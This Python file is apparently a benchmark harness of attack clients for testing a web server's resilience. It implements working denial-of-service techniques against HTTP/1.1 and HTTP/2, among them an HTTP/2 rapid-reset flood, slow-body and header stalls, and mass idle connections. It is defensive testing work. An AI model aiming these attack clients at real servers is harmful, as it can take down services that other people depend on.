#!/usr/bin/env python3
"""bench/hostile.py: the attack clients of bench/hostile.sh, stdlib only.

    python3 bench/hostile.py ATTACK --host 127.0.0.1 --port P --duration S [--count N]

ATTACK is one of:
  idle-h2       COUNT (1000) connections send the HTTP/2 preface and an empty SETTINGS, ACK the
                server's SETTINGS (as any client would) and then stay idle.
  body-stall    COUNT (200) HTTP/1.1 connections send `POST /hello.php` with
                Content-Length: 1000000 and 4 bytes of body, then stall.
  no-read       COUNT (3) clients request PATH (/big.php, 50 MB) with a 64 KiB receive buffer
                and never read; at the end each drains for at most 1 s to see whether the
                server closed it.
  h2-rst-flood  one HTTP/2 connection: every 10 ms, HEADERS (END_STREAM|END_HEADERS) for
                GET PATH (/sleep.php?ms=200) at once followed by RST_STREAM(CANCEL) on the same
                stream, odd stream ids increasing. Should the server close the connection
                (GOAWAY), a new one takes over, so the flood lasts the whole duration.
  h1-leave      COUNT (100) HTTP/1.1 clients, one every 10 ms, each sends GET PATH
                (/sleep.php?ms=200) and closes 30 ms later; then waits out the duration.
  h2-headers-stall
                COUNT (500) HTTP/2 connections send the preface, then HEADERS for GET PATH
                (/hello.php) without END_HEADERS, a header block never finished, and stay.
  h2-post-stall COUNT (10) HTTP/2 connections each open STREAMS (100) streams: HEADERS for
                POST PATH (/hello.php) with content-length: 1000000, then 4 bytes of DATA, and
                stall. 100 is below both peers' 128 concurrent streams.

Every attack stops after --duration seconds (plus at most 1 s of draining for no-read) and
prints one line of `key=value` counters on stdout, for the report's notes.
"""

import argparse
import resource
import selectors
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
STREAMS = 100  # h2-post-stall: streams per connection
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8

DEFAULTS = {  # attack: (count, path)
    "idle-h2": (1000, None),
    "body-stall": (200, "/hello.php"),
    "no-read": (3, "/big.php"),
    "h2-rst-flood": (1, "/sleep.php?ms=200"),
    "h1-leave": (100, "/sleep.php?ms=200"),
    "h2-headers-stall": (500, "/hello.php"),
    "h2-post-stall": (10, "/hello.php"),
}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def hpack_literal(index, value):
    """Literal header field without indexing, name from the static table (4-bit prefix),
    value without Huffman coding."""
    assert index < 15 + 127
    name = bytes([index]) if index < 15 else bytes([15, index - 15])
    value = value.encode()
    if len(value) < 127:
        length = bytes([len(value)])
    else:  # 7-bit prefix integer, continued
        rest, length = len(value) - 127, bytearray([127])
        while rest >= 128:
            length.append(rest % 128 + 128)
            rest //= 128
        length.append(rest)
        length = bytes(length)
    return name + length + value


def get_headers_block(path, authority):
    # :method GET (static 2), :scheme http (static 6), :path and :authority as literals.
    return b"\x82\x86" + hpack_literal(4, path) + hpack_literal(1, authority)


def post_headers_block(path, authority, length):
    # :method POST (static 3), :scheme http, :path, :authority, content-length (static 28).
    return b"\x83\x86" + hpack_literal(4, path) + hpack_literal(1, authority) + hpack_literal(28, str(length))


def client_preface():
    # Empty SETTINGS, and a connection window large enough that the server never waits on us.
    return PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))


class H2Reader:
    """Splits what the server sends into frames and answers what a client must answer
    (SETTINGS ACK, PING ACK); counts what it saw."""

    def __init__(self):
        self.buffer = b""
        self.goaway = None
        self.headers = 0
        self.rst = 0
        self.data_bytes = 0

    def feed(self, chunk):
        """Returns the bytes to send back."""
        self.buffer += chunk
        out = b""
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            payload = self.buffer[9 : 9 + length]
            self.buffer = self.buffer[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                out += frame(SETTINGS, ACK, 0)
            elif kind == PING and not flags & ACK:
                out += frame(PING, ACK, 0, payload)
            elif kind == GOAWAY and len(payload) >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == HEADERS:
                self.headers += 1
            elif kind == RST_STREAM:
                self.rst += 1
            elif kind == DATA:
                self.data_bytes += length
                if length:  # give the window back, connection-wide
                    out += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", length))
        return out


def connect_nonblocking(host, port, rcvbuf=None):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.setblocking(False)
    sock.connect_ex((host, port))
    return sock


def report(**counters):
    print(" ".join(f"{key}={value}" for key, value in counters.items()), flush=True)


# ------------------------------------------------------------------------------------------


def many_connections(args, first_bytes, h2):
    """idle-h2 and body-stall: COUNT connections that send FIRST_BYTES once connected, then
    only answer (h2) or just read and count until the deadline."""
    deadline = time.monotonic() + args.duration
    selector = selectors.DefaultSelector()
    state = {}
    failed = 0
    for _ in range(args.count):
        try:
            sock = connect_nonblocking(args.host, args.port)
        except OSError:
            failed += 1
            continue
        state[sock] = {"sent": False, "h2": H2Reader() if h2 else None, "head": b""}
        selector.register(sock, selectors.EVENT_WRITE)
    connected = closed = 0
    statuses = {}
    goaways = heads = resets = 0
    while time.monotonic() < deadline:  # also once every connection is gone: fixed length
        for key, events in selector.select(timeout=max(0.0, min(0.5, deadline - time.monotonic()))):
            sock = key.fileobj
            st = state[sock]
            if events & selectors.EVENT_WRITE and not st["sent"]:
                error = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if error:
                    failed += 1
                    selector.unregister(sock)
                    sock.close()
                    del state[sock]
                    continue
                connected += 1
                st["sent"] = True
                try:
                    sock.send(first_bytes)
                except OSError:
                    pass
                selector.modify(sock, selectors.EVENT_READ)
                continue
            try:
                chunk = sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                chunk = b""
            if chunk and st["h2"] is not None:
                reply = st["h2"].feed(chunk)
                if reply:
                    try:
                        sock.send(reply)
                    except OSError:
                        pass
            elif chunk and len(st["head"]) < 64:
                st["head"] += chunk
            if not chunk:
                closed += 1
                if st["h2"] is not None:
                    heads += st["h2"].headers
                    resets += st["h2"].rst
                if st["h2"] is not None and st["h2"].goaway is not None:
                    goaways += 1
                elif st["h2"] is None:
                    status = st["head"][9:12].decode("ascii", "replace") if st["head"].startswith(b"HTTP/") else "none"
                    statuses[status] = statuses.get(status, 0) + 1
                selector.unregister(sock)
                sock.close()
                del state[sock]
    still_connecting = sum(1 for st in state.values() if not st["sent"])
    for sock, st in state.items():
        if st["h2"] is not None:
            heads += st["h2"].headers
            resets += st["h2"].rst
        sock.close()
    counters = dict(connections=args.count, connected=connected, connect_failed=failed,
                    never_connected=still_connecting, closed_by_server=closed)
    if h2:
        counters.update(goaway_then_closed=goaways, response_heads=heads, server_resets=resets)
    else:
        counters["statuses_of_closed"] = ",".join(f"{k}:{v}" for k, v in sorted(statuses.items())) or "-"
    report(**counters)


def idle_h2(args):
    many_connections(args, client_preface(), h2=True)


def body_stall(args):
    head = (f"POST {args.path} HTTP/1.1\r\nHost: {args.host}:{args.port}\r\n"
            "Content-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n").encode()
    many_connections(args, head + b"abcd", h2=False)


def h2_headers_stall(args):
    block = get_headers_block(args.path, f"{args.host}:{args.port}")
    many_connections(args, client_preface() + frame(HEADERS, END_STREAM, 1, block), h2=True)


def h2_post_stall(args):
    block = post_headers_block(args.path, f"{args.host}:{args.port}", 1000000)
    streams = b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"abcd")
                       for stream in range(1, 2 * STREAMS, 2))
    many_connections(args, client_preface() + streams, h2=True)


def no_read(args):
    deadline = time.monotonic() + args.duration
    socks = []
    request = f"GET {args.path} HTTP/1.1\r\nHost: {args.host}:{args.port}\r\n\r\n".encode()
    for _ in range(args.count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
        sock.settimeout(5)
        sock.connect((args.host, args.port))
        sock.sendall(request)
        socks.append(sock)
    time.sleep(max(0.0, deadline - time.monotonic()))
    # Drain for at most 1 s: EOF or a reset means the server gave up on this client.
    closed = 0
    received = []
    drain_end = time.monotonic() + 1.0
    for sock in socks:
        sock.setblocking(False)
    pending = set(socks)
    got = {sock: 0 for sock in socks}
    selector = selectors.DefaultSelector()
    for sock in socks:
        selector.register(sock, selectors.EVENT_READ)
    while pending and time.monotonic() < drain_end:
        for key, _ in selector.select(timeout=max(0.0, drain_end - time.monotonic())):
            sock = key.fileobj
            try:
                chunk = sock.recv(1 << 20)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                chunk = b""
            got[sock] += len(chunk)
            if not chunk:
                closed += 1
                pending.discard(sock)
                selector.unregister(sock)
    for sock in socks:
        received.append(got[sock])
        sock.close()
    report(clients=len(socks), closed_by_server=closed,
           drained_mb=",".join(f"{n / 1e6:.1f}" for n in received))


def h2_rst_flood(args):
    deadline = time.monotonic() + args.duration
    block = get_headers_block(args.path, f"{args.host}:{args.port}")
    selector = selectors.DefaultSelector()
    sent = connections = goaways = responses = resets = 0
    sock = reader = None
    stream = 1
    next_at = time.monotonic()
    while time.monotonic() < deadline:
        if sock is None:
            try:
                sock = socket.create_connection((args.host, args.port), timeout=2)
            except OSError:
                time.sleep(0.1)
                continue
            sock.setblocking(False)
            selector.register(sock, selectors.EVENT_READ)
            reader = H2Reader()
            stream = 1
            connections += 1
            out = client_preface()
        else:
            out = b""
        now = time.monotonic()
        if now >= next_at:
            out += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
            out += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            stream += 2
            sent += 1
            next_at += 0.010
            if next_at < now - 0.1:  # fell behind (a busy machine): don't burst to catch up
                next_at = now
        lost = False
        if out:
            try:
                sock.sendall(out)  # small frames; the socket buffer takes them
            except BlockingIOError:
                pass  # the server stopped reading: this stream's frames are dropped
            except OSError:
                lost = True
        wait = max(0.0, min(next_at, deadline) - time.monotonic())
        for _key, _ in selector.select(timeout=wait):
            try:
                chunk = sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                chunk = b""
            if not chunk:
                lost = True
                break
            reply = reader.feed(chunk)
            if reply:
                try:
                    sock.sendall(reply)
                except OSError:
                    lost = True
        if stream > 0x7FFFFFFF - 2:
            lost = True
        if lost or (reader is not None and reader.goaway is not None):
            if reader.goaway is not None:
                goaways += 1
            responses += reader.headers
            resets += reader.rst
            selector.unregister(sock)
            sock.close()
            sock = None
    if sock is not None:
        responses += reader.headers
        resets += reader.rst
        sock.close()
    report(streams_sent=sent, connections=connections, goaways=goaways,
           response_heads=responses, server_resets=resets)


def h1_leave(args):
    deadline = time.monotonic() + args.duration
    request = f"GET {args.path} HTTP/1.1\r\nHost: {args.host}:{args.port}\r\n\r\n".encode()
    open_socks = []  # (close_at, sock)
    started = failed = 0
    next_at = time.monotonic()
    while started + failed < args.count or open_socks:
        now = time.monotonic()
        if started + failed < args.count and now >= next_at:
            try:
                sock = socket.create_connection((args.host, args.port), timeout=1)
                sock.sendall(request)
                open_socks.append((time.monotonic() + 0.030, sock))
                started += 1
            except OSError:
                failed += 1
            next_at += 0.010
        now = time.monotonic()
        while open_socks and open_socks[0][0] <= now:
            open_socks.pop(0)[1].close()
        waits = [t for t in (next_at if started + failed < args.count else None,
                             open_socks[0][0] if open_socks else None) if t is not None]
        if waits:
            time.sleep(max(0.0, min(waits) - time.monotonic()))
    burst = args.duration - (deadline - time.monotonic())
    time.sleep(max(0.0, deadline - time.monotonic()))
    report(clients=started, connect_failed=failed, burst_s=f"{burst:.2f}")


ATTACKS = {
    "idle-h2": idle_h2,
    "body-stall": body_stall,
    "no-read": no_read,
    "h2-rst-flood": h2_rst_flood,
    "h1-leave": h1_leave,
    "h2-headers-stall": h2_headers_stall,
    "h2-post-stall": h2_post_stall,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--duration", type=float, default=10.0)
    parser.add_argument("--count", type=int, help="connections or clients (default per attack)")
    parser.add_argument("--path", help="request path (default per attack)")
    args = parser.parse_args()
    count, path = DEFAULTS[args.attack]
    args.count = args.count if args.count else count
    args.path = args.path or path
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = args.count + 64
    if soft != resource.RLIM_INFINITY and soft < wanted:
        limit = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, hard))
    try:
        ATTACKS[args.attack](args)
    except OSError as error:
        report(error=str(error).replace(" ", "_"))
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
